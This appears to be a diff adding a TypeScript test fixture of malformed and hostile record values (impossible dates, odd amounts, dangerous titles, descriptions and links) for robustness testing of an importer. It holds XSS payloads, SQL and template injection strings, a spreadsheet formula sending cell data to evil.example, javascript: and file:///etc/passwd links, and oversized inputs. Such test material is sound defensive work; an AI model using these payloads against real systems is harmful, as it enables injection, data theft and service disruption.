@@ -1,0 +1,79 @@
+import { type Role, spelled } from './answers.js';
+import { type Expectation, type Misbehave } from './misbehave.js';
+import { both, has, json, oneWith } from './spoil-records.js';
+
+const may: Expectation = { ends: 'may complete', codes: ['SOURCE_CHANGED', 'SOURCE_TOO_LARGE', 'SOURCE_INCOMPLETE', 'SOURCE_UNSAFE', 'SOURCE_TRUNCATED'] };
+
+const dates: readonly (readonly [string, string])[] = [
+  ['that does not exist', '2026-02-30'],
+  ['in the thirteenth month', '13/45/2026'],
+  ['in the year 1', '0001-01-01'],
+  ['in the year 9999', '9999-12-31'],
+  ['in the year 275760', '+275760-09-13T00:00:00Z'],
+  ['in a time without a zone', '2026-11-05T14:00:00'],
+  ['in a zone that is none', '2026-11-05T14:00:00+99:99'],
+  ['at the 25th hour', '2026-11-05T25:61:61Z'],
+  ['as seconds since 1970', '1793851200'],
+  ['in words', 'the first Tuesday after the second Monday'],
+  ['in another script', '\u0662\u0660\u0662\u0666-\u0661\u0661-\u0660\u0665'],
+];
+
+const amounts: readonly (readonly [string, unknown])[] = [
+  ['below nothing', '-250000'],
+  ['that is no number', 'NaN'],
+  ['without end', 'Infinity'],
+  ['of four hundred digits', '9'.repeat(400)],
+  ['in euros', '\u20ac1.250.000,00'],
+  ['with words around it', 'approx. $1.2M (see budget)'],
+  ['in another base', '0x1F4'],
+];
+
+const dangerous: readonly (readonly [string, string])[] = [
+  ['a script', '<script>alert(document.cookie)</script>Road Salt'],
+  ['an image that runs a script', 'Road Salt <img src=x onerror=alert(1)>'],
+  ['markup that hides in entities', '&lt;svg/onload=alert(1)&gt; Road Salt &amp;lt;script&amp;gt;'],
+  ['a formula', '=HYPERLINK("https://evil.example/"&A1,"Road Salt")'],
+  ['a command of a database', "Road Salt'; drop table opportunity; --"],
+  ['a template', '{{constructor.constructor("return process")()}} ${7*7} Road Salt'],
+  ['signs that turn the direction of the text', 'Road \u202etlaS\u202c \u200bNorth\ufeff'],
+  ['thousands of marks over one letter', `Road S${'\u0301'.repeat(20_000)}alt`],
+  ['a hundred thousand blanks', `Road${' '.repeat(100_000)}Salt`],
+  ['a hundred thousand brackets', `Road Salt ${'<'.repeat(100_000)}`],
+  ['a hundred thousand ampersands', `Road Salt ${'&'.repeat(100_000)}`],
+];
+
+const links: readonly (readonly [string, string])[] = [
+  ['to a script', 'javascript:alert(1)'],
+  ['to a script that is not seen at first', ' java\tscript:alert(1)'],
+  ['that is the page itself', 'data:text/html,<script>alert(1)</script>'],
+  ['to a file of this machine', 'file:///etc/passwd'],
+  ['with a password in it', 'https://user:secret@evil.example/'],
+  ['of a hundred thousand letters', `https://www.example.gov/${'a'.repeat(100_000)}`],
+  ['that is none', 'see attachment'],
+];
+
+function withEach(role: Role, say: (what: string) => string, list: readonly (readonly [string, unknown])[]): Misbehave[] {
+  return list.map(([what, value]) => ({ name: say(what), ...oneWith(role, value), expects: may }));
+}
+
+const sentence = 'Road Salt and Sand for the North. ';
+
+/** Records that say what cannot be, or what must not be shown. */
+export const values: readonly Misbehave[] = [
+  ...withEach('due', (what) => `has a due date ${what}`, dates),
+  ...withEach('posted', (what) => `has a day of posting ${what}`, dates.slice(0, 5)),
+  ...withEach('amount', (what) => `has an amount ${what}`, amounts),
+  { name: 'has an amount beyond all numbers', ...oneWith('amount', spelled('1e400')), befalls: both(json, has('amount')), expects: may },
+  { name: 'has an amount below nothing, as a number', ...oneWith('amount', -250_000), befalls: both(json, has('amount')), expects: may },
+  { name: 'has an amount with a tail of digits', ...oneWith('amount', 1_250_000.1 + 0.2), befalls: both(json, has('amount')), expects: may },
+  ...withEach('title', (what) => `has a title with ${what}`, dangerous),
+  ...withEach('description', (what) => `has a description with ${what}`, dangerous),
+  ...withEach('link', (what) => `has a link ${what}`, links),
+  { name: 'has a title with control characters', ...oneWith('title', 'Road\u0007 \u001b[31mSalt\u0000'), befalls: both(json, has('title')), expects: may },
+  { name: 'has a title with half a character', ...oneWith('title', 'Road Salt \ud83d'), befalls: both(json, has('title')), expects: may },
+  { name: 'has a title of nothing but signs that are not seen', ...oneWith('title', '\u200b\u00ad\u2060\ufeff'), expects: may },
+  { name: 'has a title of ten megabytes', ...oneWith('title', sentence.repeat(300_000)), expects: may },
+  { name: 'has a description of two megabytes', ...oneWith('description', sentence.repeat(60_000)), expects: may },
+  { name: 'has a description that is nested fifty thousand deep', ...oneWith('description', `${'<div>'.repeat(50_000)}Road Salt`), expects: may },
+  { name: 'has a description of fifty thousand tables', ...oneWith('description', `${'<table><tr><td>'.repeat(20_000)}Road Salt`), expects: may },
+];
